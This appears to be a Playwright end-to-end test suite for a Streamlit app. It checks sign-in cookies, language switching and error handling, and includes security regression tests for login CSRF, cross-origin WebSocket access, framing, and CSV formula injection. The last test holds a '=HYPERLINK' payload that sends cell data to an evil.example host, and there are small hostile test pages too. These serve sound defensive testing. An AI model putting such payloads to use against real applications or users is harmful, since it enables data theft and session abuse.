"""In a real browser: staying signed in (cookie), signing out, and switching the language."""

from __future__ import annotations

import re
import sqlite3
from pathlib import Path

from tests.e2e.conftest import (
    choose_option,
    go_to,
    nav_links,
    open_page,
    running_app,
    screenshot,
    session_cookie,
    sign_in,
    sign_out,
    wait_idle,
)

SIGN_IN_FORM = ".st-key-signin_username input"
SIGNED_IN = ".st-key-nav_signout"


def test_an_expert_stays_signed_in_across_a_reload_and_a_new_tab_until_signing_out(context, page, base_url):
    open_page(page, base_url)
    screenshot(page, "signin")
    sign_in(page, "expert1")
    assert page.locator(SIGNED_IN).is_visible()
    token = session_cookie(page)
    cookie = next(c for c in context.cookies() if c["name"] == "recdraft_session")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"] == "/"

    page.reload()
    wait_idle(page)
    page.locator(SIGNED_IN).wait_for(timeout=10_000)  # a reload keeps the person signed in
    assert page.locator(SIGN_IN_FORM).count() == 0
    screenshot(page, "overview-expert")

    other = context.new_page()
    open_page(other, base_url)
    other.locator(SIGNED_IN).wait_for(timeout=10_000)  # a new tab shares the sign-in

    assert token and token not in page.content(), "the token is never written into the page"

    sign_out(page)
    for _ in range(50):
        if session_cookie(page) is None:
            break
        page.wait_for_timeout(100)
    assert session_cookie(page) is None, "signing out deletes the cookie"
    page.reload()
    wait_idle(page)
    page.locator(SIGN_IN_FORM).wait_for()  # after signing out a reload shows the sign-in page

    # The other tab's session ended on the server at once, even before any cookie change reached it.
    other.reload()
    wait_idle(other)
    other.locator(SIGN_IN_FORM).wait_for()
    other.close()


def test_switching_to_kazakh_changes_the_navigation_and_the_page_text(page, base_url):
    open_page(page, base_url)
    sign_in(page, "admin")
    assert "Overview" in nav_links(page)
    page.get_by_text("My to-dos").wait_for()

    choose_option(page, "nav_language", "Қазақша")
    page.wait_for_selector('.st-key-nav_pages a:has-text("Шолу")')
    links = nav_links(page)
    assert {"Шолу", "Ұсынымдар", "Әкімшілік"} <= set(links), links
    assert "Overview" not in links
    page.get_by_text("Менің міндеттерім").wait_for()
    assert page.get_by_text("2025 жылғы 6 ақпан").first.is_visible()
    assert page.locator(".st-key-nav_signout").inner_text().strip().endswith("Шығу")
    screenshot(page, "overview-admin-kk")

    go_to(page, "Әкімшілік")
    page.get_by_role("tab", name="Тіркелгілер").wait_for()
    screenshot(page, "admin-kk")

    # The choice is remembered for the next visit in this browser.
    page.reload()
    wait_idle(page)
    page.get_by_role("tab", name="Тіркелгілер").wait_for()
    choose_option(page, "nav_language", "English")
    page.get_by_role("tab", name="Accounts").wait_for()
    screenshot(page, "admin-en")
    assert re.search(r"Administration", page.content())


def test_an_unexpected_error_shows_a_short_apology_and_logs_the_trace(browser, demo_db_url, tmp_path):
    """A database the code does not expect (its audit table is gone) makes signing in fail unexpectedly."""
    source = Path(demo_db_url.removeprefix("sqlite:///"))
    broken = tmp_path / "broken.sqlite3"
    with sqlite3.connect(source) as src, sqlite3.connect(broken) as dst:
        src.backup(dst)
    with sqlite3.connect(broken) as conn:
        conn.execute("ALTER TABLE audit_events RENAME TO audit_events_gone")
    log_path = tmp_path / "server.log"
    with running_app(f"sqlite:///{broken}", log_path) as url:
        context = browser.new_context(viewport={"width": 1440, "height": 900})
        page = context.new_page()
        try:
            open_page(page, url)
            page.locator(".st-key-signin_username input").fill("expert1")
            page.locator(".st-key-signin_password input").fill("demo")
            page.locator(".st-key-signin_submit button").click()
            page.wait_for_selector('[data-testid="stAlert"]')
            wait_idle(page)
            screenshot(page, "unexpected-error")
            alerts = " ".join(page.locator('[data-testid="stAlert"]').all_inner_texts())
            assert "Sorry, something went wrong on our side" in alerts
            body = page.locator('[data-testid="stApp"]').inner_text()
            for leak in ("Traceback", "OperationalError", "audit_events", "sqlalchemy", ".py"):
                assert leak not in body
            assert page.locator('[data-testid="stException"]').count() == 0
        finally:
            context.close()
    logged = log_path.read_text(errors="replace")
    assert "Traceback" in logged and "audit_events" in logged


def test_a_bookmarked_page_asks_to_sign_in_then_opens_and_other_roles_are_told_no(context, page, base_url):
    open_page(page, base_url, "admin")
    page.locator(SIGN_IN_FORM).wait_for()
    assert page.get_by_text("Page not found").count() == 0
    sign_in(page, "admin")
    page.get_by_role("tab", name="Accounts").wait_for()
    assert page.url.rstrip("/").endswith("/admin")
    screenshot(page, "admin")

    expert = context.browser.new_context(viewport={"width": 1440, "height": 900})
    other = expert.new_page()
    try:
        open_page(other, base_url)
        sign_in(other, "expert2")
        open_page(other, base_url, "admin")
        other.get_by_text("Your role does not give access to this page.").wait_for()
        assert other.get_by_role("tab", name="Accounts").count() == 0
        assert "Administration" not in nav_links(other)
    finally:
        expert.close()


# --- issue 11: sign-in that cannot be turned against people (items 3, 4, 7, 9) ---------------------------


def _evil_site(html: str):
    """A page served by another 'site' on the same host (another port), like the probe's :8622."""
    import http.server
    import socketserver
    import threading

    body = html.encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's name
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = socketserver.TCPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}/"


def test_someone_elses_claim_link_does_not_sign_this_browser_in(browser, context, page, base_url):
    """Login CSRF: an attacker's unused claim code, opened by the victim, used to sign every new tab of the
    victim in as the attacker."""
    attacker_ctx = browser.new_context(viewport={"width": 1440, "height": 900})
    attacker = attacker_ctx.new_page()
    stolen: list[str] = []

    def hold_back(route):
        stolen.append(route.request.url)
        route.abort()

    try:
        attacker.route("**/auth/claim*", hold_back)
        open_page(attacker, base_url)
        sign_in(attacker, "expert2", wait_for_cookie=False)
        for _ in range(100):
            if stolen:
                break
            attacker.wait_for_timeout(100)
        assert stolen, "the attacker's browser asked to redeem its claim code"
    finally:
        attacker_ctx.close()

    open_page(page, base_url)  # the victim has used the app before
    response = page.goto(stolen[0])
    assert response.status == 410
    assert session_cookie(page) is None
    open_page(page, base_url)
    page.locator(SIGN_IN_FORM).wait_for()
    assert page.locator(SIGNED_IN).count() == 0


def test_a_logout_link_in_a_comment_signs_nobody_out(page, base_url):
    open_page(page, base_url)
    sign_in(page, "expert3")
    response = page.goto(f"{base_url}/auth/logout")
    assert response.status == 410
    open_page(page, base_url)
    page.locator(SIGNED_IN).wait_for(timeout=10_000)
    assert session_cookie(page) is not None
    sign_out(page)  # the real sign-out still deletes the cookie
    for _ in range(50):
        if session_cookie(page) is None:
            break
        page.wait_for_timeout(100)
    assert session_cookie(page) is None


def test_a_page_on_another_port_of_the_same_host_cannot_open_the_apps_websocket(page, base_url):
    open_page(page, base_url)
    sign_in(page, "expert1")
    ws_url = base_url.replace("http://", "ws://") + "/_stcore/stream"
    server, evil = _evil_site(f"""<!doctype html><title>evil</title><script>
      window.result = "pending";
      const ws = new WebSocket({ws_url!r}, ["streamlit"]);
      ws.onopen = () => {{ window.result = "open"; }};
      ws.onclose = () => {{ if (window.result === "pending") window.result = "refused"; }};
    </script>""")
    try:
        page.goto(evil)
        page.wait_for_function("window.result !== 'pending'", timeout=10_000)
        assert page.evaluate("window.result") == "refused"
    finally:
        server.shutdown()
        server.server_close()


def test_no_other_site_can_frame_the_app_and_responses_carry_the_security_headers(page, base_url):
    response = page.goto(base_url)
    headers = response.headers
    assert headers["content-security-policy"] == "frame-ancestors 'self'"
    assert headers["x-frame-options"] == "SAMEORIGIN"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["x-content-type-options"] == "nosniff"
    assert "strict-transport-security" not in headers  # plain http here; HSTS comes with https
    server, evil = _evil_site(
        f'<!doctype html><title>evil</title><iframe src="{base_url}/" width=800 height=600></iframe>'
    )
    try:
        page.goto(evil)
        page.wait_for_timeout(3000)
        app_frames = [f for f in page.frames if f != page.main_frame]
        assert app_frames, "the frame element exists"
        for frame in app_frames:
            assert frame.locator('[data-testid="stApp"]').count() == 0, "the app must not render in a foreign frame"
    finally:
        server.shutdown()
        server.server_close()


def test_the_tables_download_as_csv_writes_no_live_formula(browser, demo_db_url, tmp_path):
    """The probe found 19 formula cells, e.g. =HYPERLINK(...) in a display name, in the tables' CSV downloads."""
    from recdraft.db.engine import Database
    from recdraft.services import accounts
    from recdraft.services._base import SYSTEM

    payload = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
    source = Path(demo_db_url.removeprefix("sqlite:///"))
    copy = tmp_path / "csv.sqlite3"
    with sqlite3.connect(source) as src, sqlite3.connect(copy) as dst:
        src.backup(dst)
    db = Database(f"sqlite:///{copy}")
    accounts.create_user(db, actor_id=SYSTEM, username="mallory", display_name=payload, password="a long password")
    db.dispose()
    with running_app(f"sqlite:///{copy}", tmp_path / "server.log") as url:
        ctx = browser.new_context(viewport={"width": 1440, "height": 900}, accept_downloads=True)
        # The File System Access picker cannot be answered headless: use the download fallback.
        ctx.add_init_script("delete window.showSaveFilePicker;")
        page = ctx.new_page()
        try:
            open_page(page, url, "admin")
            sign_in(page, "admin")
            table = page.locator('[data-testid="stDataFrame"]').first  # the Accounts tab's table
            table.wait_for()
            table.hover()
            with page.expect_download() as info:
                page.get_by_role("button", name="Download as CSV").first.click()
            text = Path(info.value.path()).read_text(encoding="utf-8-sig")
        finally:
            ctx.close()
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert any("HYPERLINK" in cell for cell in cells)
    for cell in cells:
        assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), cell
